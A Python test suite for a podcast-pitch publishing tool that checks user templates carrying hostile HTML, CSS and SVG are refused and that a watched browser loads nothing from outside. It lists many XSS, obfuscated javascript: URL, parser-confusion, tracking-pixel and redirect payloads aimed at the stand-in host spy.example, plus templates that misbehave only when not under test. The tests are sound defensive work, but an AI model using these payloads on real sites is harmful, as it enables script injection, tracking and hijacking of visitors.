"""Templates that want more than to look good: tried on the installed program, and what passes in a real browser."""

import json
import os
import re
import string
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Page, Request, Route

from pitchcast.config import load_settings
from pitchcast.model.catalog import Catalog
from pitchcast.model.steps.edit import edit_show
from pitchcast.page.frame import Frame, PageRefused, framed
from pitchcast.site.project import open_project
from tests.fixtures.content import a_content
from tests.fixtures.program import Run, stored

EXTENDS = '{% extends "pitchcast/listen.html" %}'
IS_TRIED = 'feed_url.startswith("https://listen.example/")'
SPY = "https://spy.example"


def in_footer(snippet: str) -> str:
    return f"{EXTENDS}{{% block footer %}}{snippet}{{% endblock %}}"


def in_head(snippet: str) -> str:
    return f"{EXTENDS}{{% block head %}}{snippet}{{% endblock %}}"


def give(pitchcast: Run, text: str, name: str = "listen.html") -> tuple[int, str]:
    """Give the show a folder of templates that holds this one; return the exit code and what was said."""
    folder = Path("mine")
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    done = pitchcast("show", "edit", "--templates", folder)
    return done.code, done.err


def assert_refused(pitchcast: Run, published: Path, text: str, name: str = "listen.html") -> None:
    """See that a template is refused by name, and nothing published."""
    before = stored(published / "site" / "public")
    code, said = give(pitchcast, text, name)
    assert code == 1, said
    assert name in said
    assert stored(published / "site" / "public") == before


def assert_never_published(pitchcast: Run, published: Path, text: str) -> None:
    """See that a template which behaves while it is tried is refused before anything is published."""
    before = stored(published / "site" / "public")
    code, said = give(pitchcast, text)
    assert code == 1, said
    assert "listen.html" in said
    assert "pitchcast show edit --templates ''" in said
    assert stored(published / "site" / "public") == before


LOADS = [
    f'<img src="{SPY}/x.gif">',
    '<img src="//spy.example/x.gif">',
    '<img src="/\\spy.example/x.gif">',
    '<img src="/&#9;/spy.example/x.gif">',
    '<img src="\\\\spy.example/x.gif">',
    '<img src=" //spy.example/x.gif">',
    '<img src="HTTPS:spy.example/x.gif">',
    f'<img srcset="x.png 1x, {SPY}/x.gif 2x">',
    f'<picture><source srcset="{SPY}/x.gif"><img src="x.png"></picture>',
    f'<video poster="{SPY}/x.gif"></video>',
    f'<audio src="{SPY}/x.mp3"></audio>',
    f'<iframe src="{SPY}"></iframe>',
    '<iframe srcdoc="&lt;img src=//spy.example&gt;"></iframe>',
    f'<object data="{SPY}/x"></object>',
    f'<embed src="{SPY}/x">',
    f'<input type="image" src="{SPY}/x.gif">',
    f'<table background="{SPY}/x.gif"></table>',
    f'<p style="background: url({SPY}/x.gif)">x</p>',
    f"<style>@import '{SPY}/x.css';</style>",
    f'<portal src="{SPY}"></portal>',
    f'<image src="{SPY}/x.gif">',
    f'<frameset><frame src="{SPY}"></frameset>',
]


@pytest.mark.parametrize("snippet", LOADS)
def test_see_who_listens_by_loading_from_elsewhere(pitchcast: Run, published: Path, snippet: str) -> None:
    assert_refused(pitchcast, published, in_footer(snippet))


@pytest.mark.parametrize(
    "snippet",
    [
        f'<link rel="{relation}" href="{SPY}/x">'
        for relation in ("stylesheet", "preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "manifest")
    ]
    + [
        f'<link rel="icon" href="{SPY}/x.ico">',
        f'<link rel="icon dns-prefetch" href="{SPY}">',
        f'<link href="{SPY}/x.css">',
        f'<link rel="canonical" href="{SPY}">',
        '<link rel="expect" href="#x">',
        f'<meta http-equiv="Link" content="<{SPY}>; rel=preload">',
        f'<meta name="msapplication-config" content="{SPY}/x.xml">',
        '<meta http-equiv="x-dns-prefetch-control" content="on">',
    ],
)
def test_tell_a_server_by_a_link_in_the_head(pitchcast: Run, published: Path, snippet: str) -> None:
    assert_refused(pitchcast, published, in_head(snippet))


@pytest.mark.parametrize(
    "snippet",
    [
        "<script>alert(1)</script>",
        f'<script src="{SPY}/x.js"></script>',
        "<SCRIPT>alert(1)</SCRIPT>",
        "<script>{{ script|safe }};alert(1)</script>",
        '<script type="module">{{ script|safe }}</script>',
        '<script type="speculationrules">{"prefetch":[{"urls":["https://spy.example"]}]}</script>',
        '<img src="x.png" onerror="alert(1)">',
        "<p OnClick=alert(1)>x</p>",
        "<details ontoggle=alert(1) open>x</details>",
        "<body onload=alert(1)>",
        '<template shadowrootmode="open"><p>x</p></template>',
        "<x-element></x-element>",
        '<p is="x-element">x</p>',
        '<button formaction="javascript:alert(1)" type="button">x</button>',
    ],
)
def test_run_a_script_in_the_page(pitchcast: Run, published: Path, snippet: str) -> None:
    assert_refused(pitchcast, published, in_footer(snippet))


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java&#10;script:alert(1)",
        "java\tscript:alert(1)",
        "&#1;javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106avascript:alert(1)",
        "&#x6A;avascript&#58;alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "blob:https://spy.example/x",
        "file:///etc/passwd",
        "view-source:https://spy.example",
    ],
)
def test_lead_a_tap_into_a_script(pitchcast: Run, published: Path, href: str) -> None:
    assert_refused(pitchcast, published, in_footer(f'<a href="{href}">Privacy</a>'))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("listen.html", in_head(f'<meta http-equiv="refresh" content="0; url={SPY}">')),
        ("listen.html", in_footer(f'<META HTTP-EQUIV=Refresh content="9;URL={SPY}">')),
        ("listen.html", in_head('<meta http-equiv="ref&#114;esh" content="0; url=javascript:alert(1)">')),
        ("gone.html", f'<meta http-equiv="refresh" content="0; url={SPY}">'),
        ("gone.html", '<meta http-equiv="refresh" content="0; url={{ url }}/../../x">'),
        ("call.html", f'<meta http-equiv="refresh" content="0; url={SPY}?{{{{ url }}}}">'),
        ("call.html", '<meta http-equiv="refresh" content="0; url={{ url }}; url=https://spy.example">'),
        ("listen.html", in_head(f'<base href="{SPY}/">')),
        ("listen.html", in_footer(f'<form action="{SPY}"><button type="button">x</button></form>')),
        ("listen.html", in_footer("<button>x</button><button type=submit>x</button>")),
    ],
)
def test_send_the_prospect_somewhere_else(pitchcast: Run, published: Path, name: str, text: str) -> None:
    assert_refused(pitchcast, published, text, name)


@pytest.mark.parametrize(
    "snippet",
    [
        f'<!--><img src="{SPY}/x.gif"> -->',
        f'<!---><img src="{SPY}/x.gif"> -->',
        f'<!-- x --!><img src="{SPY}/x.gif"> -->',
        f'<!-- <!-- --><img src="{SPY}/x.gif"> -->',
        f'<!x><img src="{SPY}/x.gif">',
        f'<?x ><img src="{SPY}/x.gif">',
        f'</ x><img src="{SPY}/x.gif">',
        f'<![CDATA[ ><img src="{SPY}/x.gif"> ]]>',
        f'<svg><![CDATA[<img src="{SPY}/x.gif">]]></svg>',
        f'<noscript><p title="</noscript><img src={SPY}/x.gif>"></noscript>',
        f'<template><p title="</template><img src={SPY}/x.gif>"></template>',
        f'<title><p title="</title><img src={SPY}/x.gif>"></title>',
        f'<textarea><p title="</textarea><img src={SPY}/x.gif>"></textarea>',
        f'<xmp><p title="</xmp><img src={SPY}/x.gif>"></xmp>',
        f'<plaintext><img src="{SPY}/x.gif">',
        f'<p title="x"onclick="alert(1)"><img src="{SPY}/x.gif">',
        f'<p title=x"><img src="{SPY}/x.gif" alt="">',
        f'<img alt="x" src="{SPY}/x.gif"',
        f'<img src="x.png" src="{SPY}/x.gif">',
        f'<img/src="{SPY}/x.gif">',
        f'<img\x00src="{SPY}/x.gif">',
        f'<i\x00mg src="{SPY}/x.gif">',
        f"<<!-- -->img src={SPY}/x.gif>",
        f"<im<!-- -->g src={SPY}/x.gif>",
        f"< <head>img src={SPY}/x.gif>",
        f"<select><style></select><img src={SPY}/x.gif></style></select>",
        f"<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src={SPY}/x.gif&gt;'></math>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>",
    ],
)
def test_hide_markup_from_whoever_reads_the_page(pitchcast: Run, published: Path, snippet: str) -> None:
    assert_refused(pitchcast, published, in_footer(snippet))


@pytest.mark.parametrize(
    "drawing",
    [
        f'<svg><image href="{SPY}/x.svg"/></svg>',
        f'<svg><image xlink:href="{SPY}/x.svg"/></svg>',
        f'<svg><use href="{SPY}/x.svg#x"/></svg>',
        '<svg><use href="data:image/svg+xml,x#x"/></svg>',
        f'<svg><rect fill="url({SPY}/x.svg#x)"/></svg>',
        f'<svg mask="url({SPY}/x.svg#x)"></svg>',
        f"<svg><rect mask=\"image-set('{SPY}/x.svg' 1x)\"/></svg>",
        f'<svg><rect fill="\\75rl({SPY}/x.svg#x)"/></svg>',
        f'<svg><a><set attributeName="href" to="{SPY}"/></a></svg>',
        '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
        "<svg><script>{{ script|safe }}</script></svg>",
        "<svg><style>{{ style|safe }}</style></svg>",
        f'<svg><foreignObject><img src="{SPY}/x.gif"></foreignObject></svg>',
        "<svg><g></svg>",
        "<svg></p><style>x</style></svg>",
        f'<math href="{SPY}"><mi>x</mi></math>',
        '<svg onload="alert(1)"></svg>',
    ],
)
def test_draw_something_that_loads_or_runs(pitchcast: Run, published: Path, drawing: str) -> None:
    assert_refused(pitchcast, published, in_footer(drawing))


@pytest.mark.parametrize(
    "style",
    [
        f"p {{ background: url({SPY}/x.gif) }}",
        "p { background: URL('//spy.example/x.gif') }",
        "p { background: \\75rl(https://spy.example/x.gif) }",
        "p { background: \\75\nrl(//spy.example/x.gif) }",
        "p { background: \\75 \u2028rl(//spy.example/x.gif) }",
        'p { background: url("\\2f\\2fspy.example/x.gif") }',
        f"p {{ background: image-set('{SPY}/x.gif' 1x) }}",
        f"p {{ background: -webkit-image-set('{SPY}/x.gif' 1x) }}",
        f"@import '{SPY}/x.css';",
        f"@\\69mport '{SPY}/x.css';",
        f"@font-face {{ font-family: x; src: url({SPY}/x.woff2) }}",
        "</style><script>alert(1)</script>",
        f"<img src={SPY}/x.gif>",
        "<!-- x",
    ],
)
def test_load_through_the_style_sheet(pitchcast: Run, published: Path, style: str) -> None:
    assert_refused(pitchcast, published, style, "style.css")


@pytest.mark.parametrize(
    "text",
    [
        "<h1>{{ title }}</h1>",
        "<!-- x --><p>x</p><!doctype html><title>x</title>",
        "<html><head><title>x</title></head><body><p>x</p></body></html>",
        '<!doctype html><html lang="en"><head><link rel="icon" href="x.ico"><meta charset="utf-8">'
        '<meta http-equiv="Content-Security-Policy" content="{{ policy }}"><meta name="robots" content="noindex">'
        '<meta name="referrer" content="no-referrer"></head><body>{{ title }}</body></html>',
    ],
)
def test_leave_out_what_protects_the_page(pitchcast: Run, published: Path, text: str) -> None:
    """Whatever the template writes of it or does not, the page begins with it, and has it once."""
    code, said = give(pitchcast, text)
    assert code == 0, said
    link = pitchcast("link", "acme-corp").out
    page = (published / "site" / "public" / link.split("/")[3] / "index.html").read_text("utf-8")
    opening = (
        r'<!doctype html>\n<html[^>]*>\n<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" '
        r'content="default-src [^"]*">\n(<meta name="[a-z-]*" content="[^"]*">\n)*'
        r'<meta name="robots" content="noindex">\n<meta name="referrer" content="no-referrer">\n'
    )
    assert re.match(opening, page)
    for once in ("<!doctype", "<meta charset", "Content-Security-Policy", '"robots"', '"referrer"'):
        assert page.count(once) == 1


@pytest.mark.parametrize(
    "meta",
    [
        """<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">""",
        """<meta http-equiv="content-security-policy" content="">""",
        """<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src *">""",
        '<meta charset="utf-7">',
        '<meta charset="iso-2022-jp">',
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-16">',
        '<meta name="referrer" content="unsafe-url">',
        '<meta name="referrer" content="always">',
        '<meta name="robots" content="index, follow">',
        '<meta name="googlebot" content="all">',
        '<html manifest="x.appcache">',
        "<html><body></body><html class=x>",
    ],
)
def test_override_what_protects_the_page(pitchcast: Run, published: Path, meta: str) -> None:
    assert_refused(pitchcast, published, in_head(meta))
    assert_refused(pitchcast, published, f"{meta}<h1>{{{{ title }}}}</h1>")


@pytest.mark.parametrize(
    "link",
    [
        '<a href="https://seller.example" target="other">x</a>',
        '<a href="https://seller.example" target="_blank" rel="opener">x</a>',
        f'<a href="https://seller.example" ping="{SPY}">x</a>',
        '<a href="https://seller.example" referrerpolicy="unsafe-url">x</a>',
        '<a href="https://seller.example" attributionsrc>x</a>',
        '<img src="x.png" referrerpolicy="unsafe-url">',
        '<img src="x.png" crossorigin="use-credentials">',
    ],
)
def test_hand_the_page_or_its_address_to_a_website(pitchcast: Run, published: Path, link: str) -> None:
    assert_refused(pitchcast, published, in_footer(link))


@pytest.mark.parametrize(
    "snippet",
    [
        f'<meta property="og:image" content="{SPY}/x.png">',
        f'<meta property="og:image:secure_url" content="{SPY}/x.png">',
        f'<meta name="twitter:player" content="{SPY}">',
        f'<meta property="og:url" content="{SPY}">',
        f'<meta itemprop="image" content="{SPY}/x.png">',
        f'<audio src="x.mp3" data-cover="{SPY}/x.png"></audio>',
    ],
)
def test_have_a_chat_or_a_lock_screen_fetch_a_picture(pitchcast: Run, published: Path, snippet: str) -> None:
    assert_refused(pitchcast, published, in_head(snippet))


@pytest.mark.parametrize(
    "seen_by",
    [
        IS_TRIED,
        'page_url.startswith("https://listen.example/")',
        '"x-unescaped" in title',
        '"x-unescaped" in for_whom or not private',
        '"acme" not in for_whom|lower',
        "episodes and episodes[0].date < '2026-04-01'",
        "feed_url == 'https://listen.example/' ~ 'a' * 26 ~ '/feed.xml'",
    ],
)
@pytest.mark.parametrize("snippet", [LOADS[0], "<script>alert(1)</script>"])
def test_behave_only_while_being_tried(pitchcast: Run, published: Path, seen_by: str, snippet: str) -> None:
    text = in_footer(f"{{% if not ({seen_by}) %}}{snippet}{{% endif %}}")
    assert_never_published(pitchcast, published, text)


@pytest.mark.parametrize(
    "place",
    [
        "<p title={{ name }}>x</p>",
        "<p {{ name }}>x</p>",
        "<script>var name = '{{ name }}';</script>",
        "<style>p { content: '{{ name }}' }</style>",
        '<img src="{{ name }}">',
        '<a href="{{ name }}">x</a>',
        '<p style="color: {{ name }}">x</p>',
        "<p onclick=\"x('{{ name }}')\">x</p>",
        "{{ name|safe }}",
        "<!-- {{ name }} -->",
        "<title>{{ name|safe }}</title>",
        "<p title='{{ name }}'>Seller Ltd</p>",
    ],
)
def test_have_a_prospects_name_become_part_of_the_page(pitchcast: Run, published: Path, place: str) -> None:
    """A name that stands elsewhere than in text or a quoted attribute is text in the page, or the page is not built."""
    name_of = '{% set name = for_whom.split("\\u2068")[1].split("\\u2069")[0] if for_whom else "" %}'
    page = _page(published, pitchcast("link", "acme-corp").out)
    for number, name in enumerate(NAMES):
        text = in_footer(f"{name_of}{place}<i>built {number}</i>")
        _put_in_catalog(json.dumps({"listen.html": text}).encode(), prospect=name)
        done = pitchcast("feeds", "build")
        html = page.read_text("utf-8")
        assert (done.code == 0) == (f"<i>built {number}</i>" in html), done.err
        assert f"<img src={SPY}" not in html
        assert f'src="{SPY}' not in html
        assert not re.search(r"<[a-z]+ [^>\"']*onmouseover", html)
        assert not re.search(r'href="\s*javascript', html)
        assert "<script>alert" not in html


def test_change_the_kept_templates_in_storage(pitchcast: Run, published: Path) -> None:
    assert give(pitchcast, in_footer("<p>Seller Ltd</p>"))[0] == 0
    pages = stored(published / "site" / "public")
    kept = [path for path in published.glob("site/private/assets/**/*.json") if b"Seller Ltd" in path.read_bytes()]
    for path in kept:
        path.write_bytes(path.read_bytes().replace(b"<p>Seller Ltd</p>", f"<img src='{SPY}'>".encode()))
    for page in published.glob("site/public/*/index.html"):
        page.unlink()
    done = pitchcast("feeds", "build")
    assert done.code == 1
    assert "is damaged" in done.err
    assert set(stored(published / "site" / "public")) <= set(pages)
    assert b"spy.example" not in b"".join(stored(published / "site" / "public").values())


@pytest.mark.parametrize(
    "snippet", [LOADS[0], "<script>alert(1)</script>", f'<meta http-equiv=refresh content="{SPY}">']
)
def test_name_templates_in_the_catalog_that_nobody_tried(pitchcast: Run, published: Path, snippet: str) -> None:
    """The hash is right, and nothing was vetted; yet it makes only pages that are refused."""
    before = stored(published / "site" / "public")
    _put_in_catalog(json.dumps({"listen.html": in_footer(snippet)}).encode())
    done = pitchcast("feeds", "build")
    assert done.code == 1
    assert "listen.html" in done.err
    assert stored(published / "site" / "public") == before
    assert "listen.html" in pitchcast("doctor").out
    mended = pitchcast("show", "edit", "--templates", "")
    assert mended.code == 0, mended.err
    assert pitchcast("feeds", "build").code == 0


@pytest.mark.parametrize(
    "packed",
    [
        b"[]",
        b'"x"',
        b'{"listen.html": 7}',
        b'{"listen.html": {"a": []}}',
        b"[" * 100_000,
        b'{"listen.html": "' + b"x" * 300_000 + b'"}',
        b'{"words/en.toml": "copy = 7"}',
        b'{"listen.html": "{{ x"}',
        b"\xff\xfe",
    ],
)
def test_have_something_else_taken_for_templates(pitchcast: Run, published: Path, packed: bytes) -> None:
    before = stored(published / "site" / "public")
    _put_in_catalog(packed)
    done = pitchcast("feeds", "build")
    assert done.code == 1
    assert "private/assets/" in done.err
    assert "Traceback" not in done.err
    assert stored(published / "site" / "public") == before


def test_take_the_other_pages_down_with_one(pitchcast: Run, published: Path, pitch_m4a: Path) -> None:
    """One prospect's page is refused: it stays as it was, and the others are built."""
    assert pitchcast("publish", pitch_m4a.name, "--to", "Zeta Ltd", "--title", "New Recording 12").code == 0
    first, other = (_page(published, pitchcast("link", who).out) for who in ("acme-corp", "zeta-ltd"))
    before = first.read_bytes()
    snippet = f'{{% if "Acme" in for_whom %}}<img src="{SPY}">{{% else %}}<p>Seller Ltd</p>{{% endif %}}'
    _put_in_catalog(json.dumps({"listen.html": in_footer(snippet)}).encode())
    done = pitchcast("feeds", "build")
    assert done.code == 3  # some were built
    assert "listen.html" in done.err
    assert first.read_bytes() == before
    assert "Seller Ltd" in other.read_text("utf-8")


NAMES = (
    "x onmouseover=alert(1) ",
    f"javascript:alert(1)//{SPY}",
    f"{SPY}/x.gif",
    "'</script><script>alert(1)</script>",
    f"--><img src={SPY}/x.gif>",
    f"</title><img src={SPY}/x.gif>",
)


def _page(published: Path, link: str) -> Path:
    return published / "site" / "public" / link.split("/")[3] / "index.html"


def _put_in_catalog(templates: bytes, *, prospect: str = "") -> None:
    """Do what somebody can do who may write to the storage: put templates there, and have the catalog name them.

    *prospect* is another name of the first prospect.
    """
    project = open_project(load_settings(Path.cwd(), environ=os.environ), os.environ)
    sha256 = project.put_text(templates)

    def step(catalog: Catalog | None) -> Catalog:
        assert catalog
        brand = msgspec.structs.replace(catalog.brand, templates=sha256)
        after = edit_show(catalog, catalog.show, brand, catalog.public_url)
        first, *others = after.prospects
        named = msgspec.structs.replace(first, name=prospect or first.name)
        return msgspec.structs.replace(after, prospects=(named, *others))

    project.ledger.commit(step, who="mallory@elsewhere", what="x", at=datetime.now(UTC))


HOSTILE = [
    *LOADS,
    "<script>window.ran = 1</script>",
    '<img src="x.png" onerror="window.ran = 1">',
    f'<meta http-equiv="refresh" content="0; url={SPY}">',
    f'<link rel="stylesheet" href="{SPY}/x.css">',
    f'<svg><image href="{SPY}/x.svg"/></svg>',
    f'<!-- <img src="{SPY}/x.gif"> -->',
    f'<noscript><img src="{SPY}/x.gif"></noscript>',
    f'<template><img src="{SPY}/x.gif"></template>',
    "<title>x</title>",
    '<p title="x">',
    "<select><option>x</select>",
    "<svg><title>x</title><path d='M1 1'/></svg>",
    "<table><tr><td>x",
    "</p>",
    "</body>",
    "&lt;img src=//spy.example&gt;",
]
GLUE = st.text("<>/\"'= \n\t\x00\x0c!-&;#]?" + string.ascii_lowercase[:6], max_size=4)


@st.composite
def mutated(draw: st.DrawFn) -> str:
    """Hostile snippets, cut, put into one another, and with signs in between that browsers and parsers disagree on."""
    text = draw(st.sampled_from(HOSTILE))
    for _ in range(draw(st.integers(1, 4))):
        at, end = sorted((draw(st.integers(0, len(text))), draw(st.integers(0, len(text)))))
        if end - at > 8:
            end = at
        other = draw(
            st.one_of(GLUE, st.sampled_from(HOSTILE), st.sampled_from(["", "&#47;", "x", "<p>", "<!--", "-->"]))
        )
        text = f"{text[:at]}{other}{text[end:]}"
    return text


@dataclass
class Watched:
    """A browser's page and every address that it asked for; nothing leaves the machine."""

    page: Page
    asked: list[str] = field(default_factory=list)
    html: bytes = b""

    def answer(self, route: Route, request: Request) -> None:
        if request.is_navigation_request() and request.url == URL:
            route.fulfill(body=self.html, content_type="text/html; charset=utf-8")
        else:
            self.asked.append(request.url)
            route.abort()


URL = a_content().page_url
OWN = "https://listen.example.com/"


@contextmanager
def watching(browser: Browser) -> Iterator[Watched]:
    context = browser.new_context()
    watched = Watched(context.new_page())
    watched.page.route("**/*", watched.answer)
    yield watched
    context.close()


def assert_harmless(watched: Watched, html: bytes) -> None:
    """See that the browser asks only for the page's own, without the policy: that would hide what slipped through."""
    watched.asked.clear()
    watched.html = re.sub(rb'<meta http-equiv="Content-Security-Policy"[^>]*>', b"", html)
    watched.page.goto(URL, wait_until="load")
    assert [url for url in watched.asked if not url.startswith((OWN, "data:"))] == []
    assert watched.page.url == URL
    assert watched.page.evaluate("window.ran") is None
    assert watched.page.evaluate(
        "[...document.querySelectorAll('*')].every(e => !e.matches('iframe,object,embed,base'))"
    )


FRAME = Frame(
    language="en",
    direction="ltr",
    policy="default-src 'none'",
    style="p { color: red }",
    script="let x = 1 < 2;",
    origins=frozenset({OWN.rstrip("/")}),
)
PLACES = (
    "<title>x</title></head><body>{}<p>x</p></body></html>",
    "{}<title>x</title><style>p { color: red }</style><p>x</p>",
    "<title>x</title><p>x{}</p><script>let x = 1 < 2;</script>",
    "<table><tr><td>{}</td></tr></table>",
    "<template>{}</template><noscript>{}</noscript>",
)


def test_slip_past_the_rules_with_markup_that_nobody_thought_of(chromium: Browser) -> None:
    passed = []
    with watching(chromium) as watched:

        @settings(max_examples=600, suppress_health_check=list(HealthCheck), deadline=None)
        @given(mutated(), st.sampled_from(PLACES))
        def tried(snippet: str, place: str) -> None:
            try:
                html = framed(place.replace("{}", snippet), FRAME, "listen.html", None)
            except PageRefused:
                return
            passed.append(snippet)
            assert_harmless(watched, html.encode("utf-8", "replace"))

        tried()
    assert len(passed) > 20
